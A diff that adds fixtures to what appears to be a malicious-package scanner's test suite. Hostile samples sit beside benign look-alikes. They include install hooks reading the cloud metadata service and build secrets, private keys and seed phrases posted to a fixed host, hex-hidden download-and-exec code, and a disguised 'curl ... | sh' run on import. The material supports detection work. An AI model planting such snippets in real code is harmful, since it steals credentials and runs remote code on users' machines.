@@ -388,6 +388,80 @@ CASES = [
       "demo-1.0/pkg/__init__.py": "",
       "demo-1.0/pkg/stage.py": "import os\nos.system('curl -s https://x.example/i | sh')\n"},
      "code.download-exec", C, "a module setup.py imports by __import__('pkg.stage') runs at install"),
+    # ---- build-machine probes, browser hijacks, keys handed over, hidden addresses
+    (setup_py(INSTALL_CLASS.format(body="os.system(\"python3 -c 'import requests;print(requests.get(\" + "
+                                        "url + \").text)' >> NOTICE\")").replace(
+        "class Hook", "import os\nurl = 'http://169.254.169.254/latest/user-data'\nclass Hook")),
+     "code.credential-access", H, "the cloud instance metadata service asked at install"),
+    ({"demo/cloud.py": "import requests\nMETA = 'http://169.254.169.254/latest/meta-data/'\n"
+                       "def region():\n    return requests.get(META + 'placement/region').text\n"},
+     "code.credential-access", None, "benign: an SDK asks the metadata service when called"),
+    (setup_py(INSTALL_CLASS.format(body="os.system('ls -laR /builder > NOTICE')").replace(
+        "class Hook", "import os\nclass Hook")),
+     "code.process-spawn", H, "every file of a build directory listed at install"),
+    (setup_py(INSTALL_CLASS.format(body="os.system('cat /builder/secrets/* >> NOTICE')").replace(
+        "class Hook", "import os\nclass Hook")),
+     "code.process-spawn", H, "every file of a build directory printed at install"),
+    (setup_py(INSTALL_CLASS.format(body="os.system('ls -la build')").replace(
+        "class Hook", "import os\nclass Hook")),
+     "code.process-spawn", L, "benign: the build's own folder listed"),
+    (setup_py("import os\nfrom setuptools import setup\nd = os.getenv('APPDATA') + '\\\\Ext'\n"
+              "open(d + '\\\\bg.js', 'w').write('var a=1;')\n"
+              "args = '--load-extension={}'.format(d)\nsetup()\n"),
+     "code.persistence", H, "an extension written and handed to the browser's shortcuts at install"),
+    ({"demo/browser.py": "import subprocess\ndef launch(ext):\n    open('log.txt', 'w').write(ext)\n"
+                         "    subprocess.run(['chromium', '--load-extension=' + ext])\n"},
+     "code.persistence", None, "benign: a test harness starts a browser with an extension when asked"),
+    ({"demo/wallet.py": "import requests\ndef balance(private_key):\n"
+                        "    body = [{'private_key': private_key}]\n"
+                        "    return requests.post('https://x.example/balance', json=body).json()\n"},
+     "code.exfiltration", M, "a private key handed to the library posted to a fixed address"),
+    ({"demo/wallet.py": "import requests\nfrom eth_account import Account\n"
+                        "def send(private_key, tx, rpc):\n    signed = Account.sign_transaction(tx, private_key)\n"
+                        "    return requests.post('https://x.example/rpc', json={'tx': signed.hex()})\n"},
+     "code.exfiltration", None, "benign: a wallet signs with the key and sends the signature"),
+    ({"demo/wallet.py": "import requests\ndef balance(mnemonic, node):\n"
+                        "    return requests.post(node, json={'mnemonic': mnemonic}).json()\n"
+                        "def address(mnemonic, path):\n"
+                        "    return requests.get(f'https://x.example/{path}').json()\n"
+                        "def ping(mnemonic):\n    return requests.post(json={})\n"},
+     "code.exfiltration", None, "benign: a phrase sent to the node the caller names, or not sent"),
+    ({"demo/wallet.py": "import requests\ndef restore(seed_phrase, path):\n"
+                        "    return requests.post(f'https://x.example/{path}', data=f'{seed_phrase}')\n"},
+     "code.exfiltration", M, "a recovery phrase posted to a fixed host under any path"),
+    ({"demo/wallet.py": "import requests\ndef login(password):\n"
+                        "    return requests.post('https://x.example/login', json={'password': password})\n"},
+     "code.exfiltration", None, "benign: a password sent to the service it is for"),
+    ({"demo/core.py": "import requests, base64\ndef sync():\n"
+                      "    url = bytes.fromhex('68747470733a2f2f782e6578616d706c652f63').decode()\n"
+                      "    r = requests.get(url).json()\n    code = base64.b64decode(r['m']).decode()\n"
+                      "    exec(code)\n"},
+     "code.download-exec", H, "code fetched from a hex-hidden address and run when called"),
+    ({"demo/core.py": "import requests, base64\ndef sync():\n    h = '68747470733a2f2f782e6578616d706c652f63'\n"
+                      "    url = bytes.fromhex(h).decode()\n"
+                      "    code = base64.b64decode(requests.get(url).json()['m'])\n    exec(code)\n"},
+     "code.download-exec", H, "the same with the hidden address held in a variable"),
+    ({"demo/core.py": "import requests, base64\ndef sync(url):\n"
+                      "    r = requests.get(url).json()\n    code = base64.b64decode(r['m']).decode()\n"
+                      "    exec(code)\n"},
+     "code.download-exec", L, "a plug-in loader runs code from the address it is given"),
+    ({"demo/core.py": "import requests\ndef sync(base):\n"
+                      "    requests.post('https://x.example/stats', data='1')\n"
+                      "    code = requests.get(base + '/plugin.py').text\n    exec(code)\n"},
+     "code.download-exec", L, "a plug-in loader beside a fixed-address ping: the code's address is given"),
+    ({"demo/pr.py": "import os, stat, urllib.request\nADDR = 'http://45.77.10.20/out'\n"
+                    "def run():\n    data = urllib.request.urlopen(ADDR).read()\n"
+                    "    open('.drv', 'wb').write(data)\n    os.chmod('.drv', stat.S_IEXEC)\n"},
+     "code.download-exec", M, "a program fetched from a bare IP address and made executable"),
+    ({"demo/pr.py": "import os, stat, urllib.request\nADDR = 'https://x.example/tool'\n"
+                    "def run():\n    data = urllib.request.urlopen(ADDR).read()\n"
+                    "    open('tool', 'wb').write(data)\n    os.chmod('tool', stat.S_IEXEC)\n"},
+     "code.download-exec", L, "benign: a tool installer fetches its helper from its host"),
+    ({"demo/__init__.py": "from . import tmp\n",
+      "demo/tmp.py": "try:\n    import threading\n    if True:\n        run = exec\n"
+                     "        threading.Thread(target=lambda: [run(\"import os\\nos.system('curl -s "
+                     "https://x.example/i | sh')\")]).start()\nexcept Exception:\n    pass\n"},
+     "code.download-exec", H, "exec renamed inside a module-level try, then given code on import"),
 ]  # fmt: skip
 
 
